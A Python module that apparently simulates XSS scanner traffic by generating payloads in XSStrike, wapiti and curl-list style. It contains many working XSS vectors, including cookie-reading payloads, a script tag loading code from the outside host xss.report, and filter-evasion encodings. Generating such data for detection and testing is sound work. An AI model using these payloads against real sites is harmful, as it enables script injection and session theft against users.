"""Cross-site scripting values as XSStrike, wapiti and payload lists sent with curl send them.

XSStrike first sends a marker to find where a parameter is reflected, fuzzes the filter with
half-tags, then sends vectors its generator builds from tags, event handlers, fillers and calls;
wapiti sends a taint, then its payload file with the taint inside each vector; a payload list is
the classics (script tags, event handlers, ``javascript:`` URIs, SVG/iframe/img vectors) with the
encodings filters miss.
"""

from __future__ import annotations

import random
import string
from collections.abc import Iterator

TOOLS = ("xsstrike", "wapiti", "list")
#: XSStrike's generator: tags, handlers and the tags they suit, calls, fillers and ends
XS_TAGS = ["html", "d3v", "a", "details", "svg", "img", "body", "input", "video", "marquee"]
XS_HANDLERS = [
    "ontoggle",
    "onpointerenter",
    "onmouseover",
    "onmouseleave",
    "onfocus",
    "onerror",
    "onload",
    "onauxclick",
    "ondblclick",
    "oncontextmenu",
    "onpointerdown",
    "onbegin",
    "onanimationstart",
    "onmouseenter",
    "onstart",
    "onbeforescriptexecute",
]
XS_CALLS = [
    "[8].find(confirm)",
    "confirm()",
    "(confirm)()",
    "co\\u006efir\\u006d()",
    "(prompt)``",
    "a=prompt,a()",
    "alert(1)",
    "prompt(document.domain)",
    "top['al'+'ert'](1)",
    "window.onerror=alert;throw 1",
    "alert`1`",
    "eval(atob('YWxlcnQoMSk='))",
    "self[`alert`](1)",
    "print()",
]
FILLERS = ["%09", "%0a", "%0d", "/+/", "/", " ", "+", "%0c"]
ENDS = ["", ">", "//", "<!--", "%0dx>", " x>"]
#: XSStrike's filter fuzzer: half-tags and attribute tricks
FUZZ = [
    "<test",
    "<test//",
    "<test>",
    "<test x>",
    "<test x=y",
    "<test x=y//",
    "<test/oNxX=yYy//",
    "<test oNxX=yYy>",
    "<test onload=x",
    "<test/o%00nload=x",
    "<test sRc=xxx",
    "<test data=asa",
    "<test data=javascript:asa",
    "<svg x=y>",
    "<details x=y//",
    "<a href=x//",
    "<emBed x=y>",
    "<object x=y//",
    "<bGsOund sRc=x>",
    "<iSinDEx x=y//",
    "<aUdio x=y>",
    "<script x=y>",
    "<script//src=//",
    '">payload<br/attr="',
    '"-confirm``-"',
    "<test ONdBlcLicK=x>",
    "<test/oNcoNTeXtMenU=x>",
    "<test OndRAgOvEr=x>",
]
#: wapiti's payload file; __XSS__ is the taint
WAPITI = [
    "<ScRiPt>alert('__XSS__')</sCrIpT>",
    "<script>alert(/__XSS__/)</script>",
    "\"><script>alert('__XSS__')</script>",
    "<img src=. onerror=alert('__XSS__')>",
    "<svg onload=alert('__XSS__')>",
    "<iframe src=javascript:alert('__XSS__')>",
    "<body onload=alert('__XSS__')>",
    "<a href=\"javascript:alert('__XSS__')\">x</a>",
    "<video><source onerror=\"javascript:alert('__XSS__')\">",
    "<script>String.fromCharCode(0,__XSS__,1)</script>",
    "<img src=x onerror=\"document.location='http://__XSS__/'\">",
    "<object data=\"javascript:alert('__XSS__')\">",
    "<input autofocus onfocus=alert('__XSS__')>",
    "<details open ontoggle=alert('__XSS__')>",
    "'><svg/onload=alert('__XSS__')>",
    "</textarea><script>alert('__XSS__')</script>",
    "<scr<script>ipt>alert('__XSS__')</scr</script>ipt>",
    "<marquee onstart=alert('__XSS__')>",
]
#: payload lists sent with curl (PayloadsAllTheThings and the like)
CLASSICS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(document.domain)>',
    "javascript:alert(1)",
    "<svg/onload=alert(1)>",
    '<iframe src="javascript:alert(1)">',
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "</script><script>alert(1)</script>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    '<a href="javascript:alert(document.cookie)">click</a>',
    "<script>document.write(document.cookie)</script>",
    "<img src=1 onmouseover=alert(1)>",
    '<div onpointerover="alert(1)">MOVE</div>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
    "<script src=//xss.report/c/x></script>",
    "<svg><script>alert&#40;1&#41;</script>",
    '<img src="x" onerror="eval(atob(\'YWxlcnQoMSk=\'))">',
    "<video src=x onerror=alert(1)>",
    "<audio src=x onerror=prompt(1)>",
    "<embed src=javascript:alert(1)>",
]
OBFUSCATIONS = ("none", "case", "entities", "url", "double", "fillers")


def taint(rng: random.Random) -> str:
    return rng.choice(["w", "v3dm0s", "st4r7s", "xss", ""]) + "".join(
        rng.choice(string.ascii_lowercase + string.digits) for _ in range(rng.randint(6, 10))
    )


def _xsstrike_vector(rng: random.Random) -> str:
    tag = rng.choice(XS_TAGS)
    tag = "".join(c.upper() if rng.random() < 0.3 else c for c in tag)
    handler = "".join(c.upper() if rng.random() < 0.4 else c for c in rng.choice(XS_HANDLERS))
    fill, efill = rng.choice(FILLERS), rng.choice(["%09", "%0a", "%0d", "+", ""])
    lead = rng.choice(["", '">', "'>", "-->"])
    return f"{lead}<{tag}{fill}{handler}{efill}={efill}{rng.choice(XS_CALLS)}{rng.choice(ENDS)}"


def obfuscate(rng: random.Random, value: str, how: str) -> str:
    """``value`` as a filter-evading variant: random case of tags and handlers, HTML entities in the
    call, URL-encoded once or twice (a second decoding by the application), fillers for spaces."""
    if how == "case":
        out = []
        in_tag = False
        for c in value:
            in_tag = (in_tag or c == "<") and c != ">"
            out.append(c.swapcase() if in_tag and c.isalpha() and rng.random() < 0.5 else c)
        return "".join(out)
    if how == "entities":
        for call in ("alert(", "prompt(", "confirm("):
            if call in value:
                return value.replace(call, "".join(f"&#{ord(c)};" for c in call[:-1]) + "(", 1)
        return value
    if how == "url":
        return "".join(f"%{ord(c):02X}" if c in "<>\"'()/ =" else c for c in value)
    if how == "double":
        return "".join(f"%25{ord(c):02X}" if c in "<>\"'()/ =" else c for c in value)
    if how == "fillers":
        return value.replace(" ", rng.choice(["/", "%09", "%0a", "%0c", "/**/"]))
    return value


def xss_values(rng: random.Random, tool: str, orig: str) -> Iterator[tuple[str, str]]:
    """(stage, parameter value) in the tool's order, without end."""
    mark = taint(rng)
    if tool == "xsstrike":
        yield "probe", f"{orig}{mark}"
        for f in rng.sample(FUZZ, rng.randint(4, len(FUZZ))):
            yield "fuzz", f
        while True:
            yield "vector", _xsstrike_vector(rng)
    elif tool == "wapiti":
        yield "taint", mark
        while True:
            for p in rng.sample(WAPITI, len(WAPITI)):
                yield "payload", p.replace("__XSS__", taint(rng))
    else:
        while True:
            for p in rng.sample(CLASSICS, len(CLASSICS)):
                yield "payload", p
